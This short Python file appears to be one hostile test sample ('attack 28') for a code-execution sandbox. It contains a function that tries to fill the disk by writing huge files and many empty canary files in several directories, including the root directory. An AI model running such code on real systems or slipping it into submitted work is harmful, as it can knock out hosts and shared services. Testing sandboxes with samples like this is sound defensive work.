# ruff: noqa
# fmt: off
# attack 28: fill the disk; calls, stdio, test_code; wrong, timeout
import os
def f(x):
    block = b"x" * (1 << 20)
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/"):
        try:
            with open(os.path.join(folder, "lydite-canary-big"), "wb") as file:
                for _ in range(100_000):
                    file.write(block)
        except OSError:
            pass
        try:
            for n in range(100_000):
                open(os.path.join(folder, f"lydite-canary-{n}"), "wb").close()
        except OSError:
            pass
    return "nothing"
